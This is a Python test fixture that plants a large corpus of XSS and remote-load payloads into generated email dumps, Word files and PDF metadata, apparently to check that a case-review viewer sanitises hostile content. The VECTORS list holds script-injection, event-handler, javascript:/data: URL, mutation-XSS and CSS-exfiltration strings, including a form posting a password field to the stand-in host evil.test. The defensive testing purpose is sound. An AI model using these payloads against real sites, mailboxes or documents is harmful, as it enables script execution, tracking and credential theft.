"""An XSS and remote-load corpus planted in a real case, for the browser tests of hostile content.

Each vector is a template: `{js}` becomes a call of `__xss(N)` (a function the browser test exposes
in every frame, so any script that runs says which vector it came from) and `{url}` a remote address
`http://evil.test/vN...` (any request for it is seen and aborted by the test's route gate). The
vectors are planted the way a dump carries them: in subjects (raw and RFC 2047 encoded-words),
display names, a header a reader sees, every HTML part of multipart bodies, plain-text bodies,
attachment file names (RFC 2231), text and JSON attachments shown in the text view, Word and PDF
metadata, a DKIM-Signature whose values come back in a finding's evidence, and search queries.
"""

from __future__ import annotations

import base64
import io
import json
import urllib.parse
from dataclasses import dataclass
from pathlib import Path

HOST = "evil.test"


def _b64(s: str) -> str:
    return base64.b64encode(s.encode()).decode()


# One line each: a vector is used in headers too. Distinct by the trick, not by the payload.
VECTORS: list[str] = [
    # script elements
    "<script>{js}</script>",
    "<ScRiPt>{js}</sCrIpT>",
    '<script src="{url}.js"></script>',
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "<scr\x00ipt>{js}</script>",
    '"><script>{js}</script>',
    "'><script>{js}</script>",
    "</title><script>{js}</script>",
    "</textarea><script>{js}</script>",
    "</pre><script>{js}</script>",
    "</style><script>{js}</script>",
    "<![CDATA[<script>{js}</script>]]>",
    # event handlers on many elements
    '<img src=x onerror="{js}">',
    "<IMG SRC=x OnErRoR={js}>",
    "<img/src=x/onerror={js}>",
    '<img src=x on\x00error="{js}">',
    '<img src="x" onerror="&#95;&#95;xss&#40;{n}&#41;">',
    '<body onload="{js}">',
    '<details open ontoggle="{js}">x</details>',
    '<input autofocus onfocus="{js}">',
    '<select autofocus onfocus="{js}"></select>',
    '<textarea autofocus onfocus="{js}"></textarea>',
    '<video><source onerror="{js}"></video>',
    '<audio src=x onerror="{js}"></audio>',
    '<marquee onstart="{js}">m</marquee>',
    '<div onpointerover="{js}" style="position:fixed;inset:0;z-index:9">cover</div>',
    '<a href="#" onclick="{js}" id="clickme">click</a>',
    '<frameset onload="{js}"></frameset>',
    '<style onload="{js}"></style>',
    # javascript: and data: URLs
    '<a href="javascript:{js}">js link</a>',
    '<a href="JaVaScRiPt:{js}">mixed-case js link</a>',
    '<a href="jav&#x09;ascript:{js}">tab-split js link</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{js}">entity js link</a>',
    '<a href="data:text/html;base64,{b64_parent}">data link</a>',
    '<iframe src="javascript:{js}"></iframe>',
    '<embed src="javascript:{js}">',
    '<object data="data:text/html;base64,{b64_script}"></object>',
    '<form><button formaction="javascript:{js}">go</button></form>',
    '<isindex action="javascript:{js}">',
    '<math href="javascript:{js}">math link</math>',
    "javascript:{js}",
    # SVG and MathML
    '<svg onload="{js}"></svg>',
    "<svg><script>{js}</script></svg>",
    '<svg><animate onbegin="{js}" attributeName="x" dur="1s"/></svg>',
    '<svg><a xlink:href="javascript:{js}"><text x="20" y="20">svg link</text></a></svg>',
    '<svg><image href="{url}.png"/></svg>',
    '<svg><use href="{url}.svg#x"/></svg>',
    '<svg><foreignObject><iframe src="javascript:{js}"></iframe></foreignObject></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror="{js}">',
    # mutation XSS
    '<noscript><p title="</noscript><img src=x onerror={js}>">',
    "<template><style></template><img src=x onerror={js}></style>",
    '<!--<img src="--><img src=x onerror={js}//">',
    '<svg></p><style><a id="</style><img src=1 onerror={js}>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror="{js}">',
    # srcdoc, frames, embeds, remote loads
    '<iframe srcdoc="&lt;script&gt;parent.__xss({n})&lt;/script&gt;"></iframe>',
    '<iframe src="{url}"></iframe>',
    '<object data="{url}"></object>',
    '<embed src="{url}">',
    '<img src="{url}.gif">',
    '<img src="//{n}.evil.test/p.png">',
    '<img src="http://127.0.0.1:9/v{n}.png">',
    '<img srcset="{url}.png 1x, {url}-2.png 2x">',
    '<picture><source srcset="{url}.webp"><img src="x"></picture>',
    '<input type="image" src="{url}.png">',
    '<table background="{url}.png"><tr><td>t</td></tr></table>',
    '<video poster="{url}.png"></video>',
    '<a ping="{url}" href="#">ping</a>',
    '<a href="{url}">remote link</a>',
    # base, meta refresh, forms, link
    '<base href="{url}/"><img src="relative.png">',
    '<meta http-equiv="refresh" content="0;url={url}">',
    '<meta http-equiv="refresh" content="0;url=javascript:{js}">',
    '<form action="{url}" method="post"><input name="password"><button>send</button></form>',
    '<link rel="stylesheet" href="{url}.css">',
    '<link rel="prefetch" href="{url}">',
    '<link rel="preload" as="image" href="{url}.png">',
    '<link rel="dns-prefetch" href="//{n}.evil.test">',
    '<link rel="import" href="{url}.html">',
    # CSS
    '<style>@import url("{url}.css");</style>',
    "<style>body{{background:url({url}.png)}}</style>",
    "<style>@font-face{{font-family:x;src:url({url}.woff)}}body{{font-family:x}}</style>",
    "<div style=\"background-image:url('{url}.png')\">bg</div>",
    '<div style="background:url(&quot;{url}.png&quot;)">entity bg</div>',
    '<div style="background:u\\72l({url}.png)">css-escaped bg</div>',
    '<div style="width:expression({js})">expression</div>',
    "<style>*{{x:expression({js})}}</style>",
    '<div style="behavior:url({url}.htc)">behavior</div>',
    '<img src="data:image/svg+xml;base64,{b64_svg}">',
]


def js(n: int) -> str:
    return f"__xss({n})"


def url(n: int) -> str:
    return f"http://{HOST}/v{n}"


def vector(n: int) -> str:
    """Vector n with its marker call and its remote address filled in."""
    return VECTORS[n].format(
        js=js(n),
        url=url(n),
        n=n,
        # data: URLs carry their script base64-encoded, marker call included.
        b64_script=_b64(f"<script>{js(n)}</script>"),
        b64_parent=_b64(f"<script>parent.{js(n)}</script>"),
        b64_svg=_b64(f'<svg xmlns="http://www.w3.org/2000/svg" onload="{js(n)}"/>'),
    )


def all_vectors() -> list[str]:
    return [vector(n) for n in range(len(VECTORS))]


@dataclass
class Planted:
    dump: Path
    emails: int
    vectors: int


def _encoded_word(s: str) -> str:
    # Folded into words of at most 75 characters (RFC 2047), each its own base64 word.
    raw = s.encode()
    words = []
    for i in range(0, len(raw), 42):
        words.append("=?utf-8?b?" + base64.b64encode(raw[i : i + 42]).decode() + "?=")
    return "\r\n ".join(words)


def _header_text(s: str) -> str:
    # A raw header may not carry a NUL or a line break; the encoded-word form carries everything.
    return s.replace("\x00", "")


def _email(n: int) -> bytes:
    v = vector(n)
    subject = _encoded_word(f"hostile-{n} {v}") if n % 2 else f"hostile-{n} {_header_text(v)}"
    display = _encoded_word(v) if n % 3 else '"' + _header_text(v).replace("\\", "\\\\").replace('"', '\\"') + '"'
    filename = urllib.parse.quote(f"{v}-{n}.txt", safe="")
    html_part = f'<html><body><p id="marker-{n}">hostile-{n} html</p>{v}</body></html>'
    second_html = f'<div id="second-{n}">second part {n}</div>{v}'
    plain = f"hostile-{n} plain text\r\n{v}\r\nsee {url(n)} and javascript:{js(n)}\r\n"
    json_body = json.dumps({"note": v, "url": url(n), "n": n}, ensure_ascii=False)
    dkim = f"v=1; a=rsa-sha256; d={_header_text(v)}.example; s={n}; h=from; bh=AA==; b=AA=="
    date = "Mon, 01 May 2017 10:00:00 +0200" if n % 10 else f"Mon, 01 May 2017 {_header_text(v)}"
    parts = [
        "MIME-Version: 1.0",
        f"From: {display} <h{n}@hostile.example>",
        f"To: =?utf-8?b?{_b64(v)}?= <anne@horizon.example>",
        f"Subject: {subject}",
        f"Date: {date}",
        f"Message-ID: <h{n}.{n}@hostile.example>",
        f"X-Mailer: {_header_text(v)}",
        f"DKIM-Signature: {dkim}",
        f'Content-Type: multipart/mixed; boundary="m{n}"',
        "",
        f"--m{n}",
        f'Content-Type: multipart/alternative; boundary="a{n}"',
        "",
        f"--a{n}",
        "Content-Type: text/plain; charset=utf-8",
        "Content-Transfer-Encoding: base64",
        "",
        _b64(plain),
        f"--a{n}",
        "Content-Type: text/html; charset=utf-8",
        "Content-Transfer-Encoding: base64",
        "",
        _b64(html_part),
        f"--a{n}--",
        f"--m{n}",
        "Content-Type: text/html; charset=utf-8",
        "Content-Transfer-Encoding: base64",
        "",
        _b64(second_html),
        f"--m{n}",
        "Content-Type: text/plain; charset=utf-8",
        f"Content-Disposition: attachment; filename*=utf-8''{filename}",
        "Content-Transfer-Encoding: base64",
        "",
        _b64(plain),
    ]
    if n % 3 == 0:  # a JSON attachment (shown in the text view) on every third email
        parts += [
            f"--m{n}",
            "Content-Type: application/json",
            f'Content-Disposition: attachment; filename="hostile-{n}.json"',
            "Content-Transfer-Encoding: base64",
            "",
            _b64(json_body),
        ]
    parts += [f"--m{n}--", ""]
    return "\r\n".join(parts).encode()


def _docx(vs: list[str]) -> bytes:
    import docx

    # python-docx writes XML: the NUL of the NUL-split vectors is dropped (XML cannot carry one).
    clean = [s.replace("\x00", "") for s in vs]
    d = docx.Document()
    d.add_paragraph("hostile document " + " ".join(clean))
    cp = d.core_properties
    cp.title, cp.author, cp.last_modified_by, cp.subject, cp.keywords, cp.comments = (clean * 6)[:6]
    buf = io.BytesIO()
    d.save(buf)
    return buf.getvalue()


def _pdf(vs: list[str]) -> bytes:
    import pikepdf

    pdf = pikepdf.new()
    pdf.add_blank_page()
    for key, value in zip(
        ("/Title", "/Author", "/Creator", "/Producer", "/Subject", "/Keywords"), (vs * 6)[:6], strict=True
    ):
        pdf.docinfo[key] = value
    buf = io.BytesIO()
    pdf.save(buf)
    return buf.getvalue()


def write_dump(root: Path) -> Planted:
    """One email per vector, plus Word and PDF files carrying the vectors in their metadata."""
    d = root / "hostile-dump"
    d.mkdir(parents=True)
    for n in range(len(VECTORS)):
        (d / f"hostile-{n:03d}.eml").write_bytes(_email(n))
    vs = all_vectors()
    for i in range(0, len(vs), 6):
        (d / f"meta-{i:03d}.docx").write_bytes(_docx(vs[i : i + 6]))
        (d / f"meta-{i:03d}.pdf").write_bytes(_pdf(vs[i : i + 6]))
    # Source files named by a vector (those a file name can hold: no '/', no NUL, 255 bytes at most).
    for n, v in enumerate(vs):
        if "/" not in v and "\x00" not in v and len(v.encode()) < 240:
            (d / f"{v}-{n}.txt").write_text(f"a file named by vector {n}\n")
    return Planted(d, len(VECTORS), len(VECTORS))
